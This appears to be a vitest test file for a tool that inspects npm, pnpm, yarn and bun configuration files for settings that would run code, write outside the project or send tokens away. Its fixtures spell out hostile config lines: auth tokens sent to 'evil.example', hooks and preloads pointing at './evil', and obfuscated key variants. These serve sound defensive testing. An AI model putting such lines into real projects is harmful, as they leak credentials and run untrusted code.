// biome-ignore-all lint/suspicious/noTemplateCurlyInString: npm replaces these
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import type { PackageManager } from '../../src/data/package-managers.ts';
import { projectSettings } from '../../src/install/project-settings.ts';
import { workspaceOf } from '../../src/install/workspace.ts';
import { folderWith } from '../project-shapes.ts';

const home = '/home/nobody';
const functions = 'shop/src/app/app.functions';

function settingsFor(
  packageManager: PackageManager,
  files: Readonly<Record<string, string>>,
  env: Readonly<Record<string, string>> = {},
) {
  const top = folderWith({ [`${functions}/x.js`]: '', ...files });
  const place = {
    directory: path.join(top, functions),
    root: workspaceOf(path.join(top, functions), packageManager).root,
    top,
    env: { HOME: home, ...env },
    secrets: ['SHOP_KEY'],
  };
  return projectSettings(packageManager, place);
}

describe('a workspace that is installed whole', () => {
  const above = {
    'package.json': JSON.stringify({ workspaces: [functions] }),
    'pnpm-workspace.yaml': `packages:\n  - ${functions}\n`,
  };

  test.each<[PackageManager, string, string]>([
    ['npm', '.npmrc', 'git=./evil'],
    ['npm', '.npmrc', '//evil.example/:_authToken=${SHOP_KEY}'],
    ['pnpm', '.npmrc', 'script-shell=./evil'],
    ['pnpm', '.pnpmfile.cjs', ''],
    ['pnpm', 'pnpm-workspace.yaml', `packages:\n  - ${functions}\npnpmfile: ./evil\n`],
    ['bun', 'bunfig.toml', 'preload = ["./evil.ts"]'],
    ['yarn', '.yarnrc.yml', 'plugins: []'],
  ])('of %s is looked through at its root: %s', (packageManager, name, text) => {
    const { dangers } = settingsFor(packageManager, { ...above, [name]: text }, { SHOP_KEY: 'canary' });
    expect(dangers).toHaveLength(1);
    expect(dangers[0]).toContain(name);
    expect(dangers[0]).not.toContain('canary');
  });

  test('may name its registry there', () => {
    for (const packageManager of ['npm', 'pnpm', 'bun'] as const) {
      const found = settingsFor(packageManager, { ...above, '.npmrc': 'registry=https://npm.example/' });
      expect(found).toMatchObject({ dangers: [], environment: {} });
    }
  });
});

describe('what a project would have a package manager run, write outside or send away is found', () => {
  const rc = `${functions}/.npmrc`;
  test.each<[PackageManager, string, string]>([
    ...[
      'git=./evil',
      'node-options=--require ./evil',
      'script-shell=./evil',
      'cache=/elsewhere',
      'logs-dir=/x',
    ].map((line): [PackageManager, string, string] => ['npm', rc, line]),
    ['npm', rc, '"git"=./evil'],
    ['npm', rc, 'gi${NONE?}t=./evil'],
    ['npm', rc, 'GIT = ./evil'],
    ['npm', `${functions}/package.json`, '{"dependencies": {"x": "git+ssh://git@example.com/x.git"}}'],
    ['npm', `${functions}/package.json`, '{"dependencies": {"x": "ada/x"}}'],
    ['pnpm', rc, 'pnpmfile=../x.cjs'],
    ['pnpm', rc, 'modules-dir=../../..'],
    ['pnpm', `${functions}/.pnpmfile.cjs`, 'evil()'],
    ['pnpm', `${functions}/.pnpmfile.mjs`, 'evil()'],
    ['pnpm', `${functions}/pnpm-workspace.yaml`, 'pnpmfile: x.cjs'],
    ['pnpm', `${functions}/pnpm-workspace.yaml`, '{ "pnpmfile": x.cjs }'],
    ['pnpm', `${functions}/pnpm-workspace.yaml`, '  configDependencies:\n    a: 1'],
    ['pnpm', `${functions}/package.json`, '{"pnpm": {"configDependencies": {"a": "1"}}}'],
    ['yarn', `${functions}/.yarnrc.yml`, 'yarnPath: ./evil.cjs'],
    ['yarn', '.yarnrc.yml', 'nodeLinker: node-modules\nplugins:\n  - ./evil.cjs'],
    ['yarn', 'shop/.yarnrc.yml', '"yarnPath": ./evil.cjs'],
    ['yarn', 'shop/.yarnrc.yml', '"\\u0079arnPath": ./evil.cjs'],
    ['yarn', 'shop/.yarnrc.yml', 'cacheFolder: ../../..'],
    ['yarn', 'shop/.yarnrc', 'yarn-path "./evil.js"'],
    ['bun', `${functions}/bunfig.toml`, '[install.security]\nscanner = "./evil"'],
    ['bun', `${functions}/bunfig.toml`, '[install]\nglobalDir = "/elsewhere"'],
  ])('%s: %s with %s', (packageManager, file, text) => {
    expect(settingsFor(packageManager, { [file]: text }).dangers).toHaveLength(1);
  });

  test.each<[PackageManager, Readonly<Record<string, string>>]>([
    [
      'npm',
      {
        [rc]: 'registry=https://npm.example/\n@a:registry=https://b.example/\nsave-exact=true\nglobal=true\n',
      },
    ],
    [
      'npm',
      { [`${functions}/package.json`]: '{"dependencies": {"a": "^1.0.0", "@b/c": "*", "d": "npm:e@1"}}' },
    ],
    ['npm', { [`${functions}/.pnpmfile.cjs`]: '', [`${functions}/.yarnrc.yml`]: 'yarnPath: x' }],
    [
      'pnpm',
      { [`${functions}/pnpm-workspace.yaml`]: '# all\npackages:\n  - a\nonlyBuiltDependencies:\n- b\n' },
    ],
    [
      'yarn',
      { [`${functions}/.yarnrc.yml`]: 'nodeLinker: node-modules\n', '.yarnrc': 'registry "https://x/"\n' },
    ],
    ['bun', { [`${functions}/bunfig.toml`]: '[install]\nregistry = "https://npm.example"\n' }],
  ])('and nothing is where there is none: %s with %j', (packageManager, files) => {
    expect(settingsFor(packageManager, files).dangers).toEqual([]);
  });
});

describe('a token of the shell', () => {
  const env = { SHOP_KEY: 'canary', NPM_TOKEN: 'canary', HOST: 'x' };
  const withLine = (line: string) => settingsFor('npm', { [`${functions}/.npmrc`]: line }, env);

  test('goes where npm’s own registry gets it, and nowhere else that only the project names', () => {
    expect(withLine('//npm.pkg.github.com/:_authToken=${NPM_TOKEN}')).toMatchObject({
      dangers: [],
      passed: ['NPM_TOKEN'],
    });
    for (const line of [
      '//evil.example/:_authToken=${NPM_TOKEN}',
      '//evil.example/:_authToken=${SHOP_KEY}',
      'registry=https://evil.example/${NPM_TOKEN}/',
      'user-agent=${SHOP_KEY}',
      '//npm.pkg.github.com/:_authToken=${NPM_TOKEN}\n//evil.example/:_authToken=${NPM_TOKEN}',
    ]) {
      const { dangers, passed } = withLine(line);
      expect(dangers).toHaveLength(1);
      expect(passed).toEqual([]);
      expect(dangers.join()).not.toContain('canary');
    }
  });

  test('goes where the user’s own configuration says', () => {
    const user = folderWith({ '.npmrc': '//npm.example/:_authToken=${COMPANY_TOKEN}\n' });
    const found = settingsFor(
      'npm',
      { [`${functions}/.npmrc`]: '//npm.example/:_authToken=${NPM_TOKEN}' },
      {
        ...env,
        HOME: user,
      },
    );
    expect(found).toMatchObject({ dangers: [], passed: ['NPM_TOKEN', 'COMPANY_TOKEN'] });
  });
});

describe('the .npmrc of a workspace above that does not list the folder', () => {
  const files = {
    'package.json': '{"workspaces": ["packages/*"]}',
    '.npmrc': '@a:registry=https://npm.example/\n//npm.example/:_password=x\nglobal=true\n',
  };

  test('counts for npm all the same', () => {
    expect(settingsFor('npm', files).environment).toEqual({
      'npm_config_@a:registry': 'https://npm.example/',
      'npm_config_//npm.example/:_password': 'x',
    });
  });

  test('stops a package manager that would not read it', () => {
    for (const one of ['pnpm', 'bun'] as const) expect(settingsFor(one, files).dangers).toHaveLength(1);
    expect(settingsFor('pnpm', { ...files, '.npmrc': 'save-exact=true' }).dangers).toEqual([]);
  });
});
